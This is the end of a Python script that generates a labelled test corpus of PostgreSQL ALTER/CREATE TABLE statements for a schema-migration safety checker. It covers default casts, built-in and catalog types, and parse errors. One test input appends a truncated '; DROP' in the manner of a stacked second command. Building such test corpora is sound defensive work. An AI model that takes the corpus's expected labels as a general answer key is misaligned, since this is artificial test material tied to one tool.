add(c, 'ALTER TABLE events ADD COLUMN a boolean, ADD COLUMN b decimal(10,2), ADD COLUMN c bigint', "low", L)
add(c, 'ALTER TABLE events ALTER COLUMN name TYPE "text"', "medium", "binary-coercible-type-change")
add(c, 'ALTER TABLE events ALTER COLUMN name TYPE pg_catalog.varchar(50)', "medium", "binary-coercible-type-change")
add(c, 'ALTER TABLE events ALTER COLUMN name TYPE "varchar"(50)', "medium", "binary-coercible-type-change")

# --- default-cast: a constant default is a literal, or a literal cast to a built-in type. A cast to
# anything else runs a domain's CHECK, which may call any function.
c = "default-cast"
V = "volatile-default"
add(c, "ALTER TABLE events ADD COLUMN a text DEFAULT 'x'::some_domain", F, V)
add(c, "ALTER TABLE events ADD COLUMN a int DEFAULT CAST('1' AS public.mydomain)", F, V)
add(c, 'ALTER TABLE events ADD COLUMN a int DEFAULT \'1\'::"int"', F, V)
add(c, 'ALTER TABLE events ADD COLUMN a int[] DEFAULT \'{1}\'::"int"[]', F, V)
add(c, 'ALTER TABLE events ADD COLUMN a int DEFAULT U&\'1\'::U&"\\0069nt"', F, V)
add(c, "ALTER TABLE events ADD COLUMN a int DEFAULT ('1'::my_domain)::int", F, V)
add(c, "ALTER TABLE events ADD COLUMN a text[] DEFAULT ARRAY['a'::my_domain]", F, V)
add(c, "ALTER TABLE events ADD COLUMN a int DEFAULT 1 + '2'::public.int4", F, V)
add(c, "ALTER TABLE events ADD COLUMN a text DEFAULT CASE WHEN true THEN 'x'::my_domain END", F, V)
add(c, "ALTER TABLE events ALTER COLUMN count TYPE bigint USING count::\"int\"", F, "volatile-using")
add(c, 'CREATE TABLE events (a int DEFAULT \'1\'::"int")', F, V)
add(c, "ALTER TABLE events ADD COLUMN a text DEFAULT 'x'::\"char\"", "high", "non-constant-default")
# … and casts to built-in types, which stay constant.
K = "adding-column-with-constant-default"
add(c, "ALTER TABLE events ADD COLUMN a int DEFAULT '1'::int", "low", K)
add(c, "ALTER TABLE events ADD COLUMN a int DEFAULT CAST('1' AS integer)", "low", K)
add(c, "ALTER TABLE events ADD COLUMN a int DEFAULT '1'::pg_catalog.int4", "low", K)
add(c, 'ALTER TABLE events ADD COLUMN a text DEFAULT \'x\'::"text"', "low", K)
add(c, "ALTER TABLE events ADD COLUMN a point DEFAULT '(1,2)'::point", "low", K)
add(c, "ALTER TABLE events ADD COLUMN a int4range DEFAULT '[1,5)'::int4range", "low", K)
add(c, "ALTER TABLE events ADD COLUMN a bigint[] DEFAULT '{}'::bigint[]", "low", K)
add(c, "ALTER TABLE events ADD COLUMN a numeric DEFAULT 1.5::numeric(4,2)", "low", K)

# --- builtin-types: every base, range and multirange type of pg_catalog (the list is generated from
# pg_type) is built-in, not only the common ones; other pg_catalog types are not column types.
c = "builtin-types"
for t in ["point", "polygon", "box", "circle", "line", "lseg", "path", "tsquery", "tsvector", "int4range",
          "int8range", "numrange", "tsrange", "tstzrange", "daterange", "int4multirange", "datemultirange",
          "macaddr8", "jsonpath", "pg_lsn", "xid8", "uuid", "money", "bit varying(8)", "time(3) with time zone",
          "interval day to second", "bit(8)", "national character varying(10)", "point[]", "tstzrange[]"]:
    add(c, f"ALTER TABLE events ADD COLUMN a {t}", "low", L)
add(c, "ALTER TABLE events ADD COLUMN a pg_catalog.tstzrange", "low", L)
add(c, 'ALTER TABLE events ADD COLUMN a "polygon"', "low", L)
add(c, "CREATE TABLE events (a point, b daterange, c tsquery)", "low", "create-managed-table")
C = "add-column-catalog-type"
add(c, 'ALTER TABLE events ADD COLUMN a "char"', "high", C)
add(c, "ALTER TABLE events ADD COLUMN a pg_class", "high", C)
add(c, "ALTER TABLE events ADD COLUMN a _int4", "high", C)
add(c, "ALTER TABLE events ADD COLUMN a regproc", "high", C)
add(c, "ALTER TABLE events ADD COLUMN a aclitem", "high", C)
add(c, "ALTER TABLE events ADD COLUMN a anyelement", "high", C)
add(c, "ALTER TABLE events ADD COLUMN a pg_catalog.pg_node_tree", "high", C)
add(c, "ALTER TABLE events ADD COLUMN a pg_catalog.nosuchtype", "high", C)
add(c, "ALTER TABLE events ALTER COLUMN count TYPE regproc", "high", "type-change-user-type")

# --- parse-error
c = "parse-error"
add(c, "ALTER TABLE events ADD COLUMN", F, "parse-error")
add(c, "ALTR TABLE events ADD COLUMN x int", F, "parse-error")
add(c, "ALTER TABLE events ADD COLUMN x int; DROP", F, "parse-error")
add(c, "ALTER TABLE events ADD COLUMN x text DEFAULT $$unterminated", F, "parse-error")
add(c, "ALTER TABLE events ADD COLUMN x int /* unterminated comment", F, "parse-error")
add(c, "ALTER TABLE \"events ADD COLUMN x int", F, "parse-error")
add(c, "ALTER TABLE U&\"\\zzzz\" ADD COLUMN x int", F, "parse-error")

counts = Counter(e["class"] for e in E)
for k, v in sorted(counts.items()):
    assert v >= 5, (k, v)
here = os.path.dirname(os.path.abspath(__file__))
out = os.path.join(here, "..", "Tests", "MendGuardTests", "Resources", "corpus.json")
with open(out, "w") as f:
    json.dump({"context": context, "entries": E}, f, indent=1, ensure_ascii=False)
    f.write("\n")
print(len(E), "entries;", dict(sorted(counts.items())))
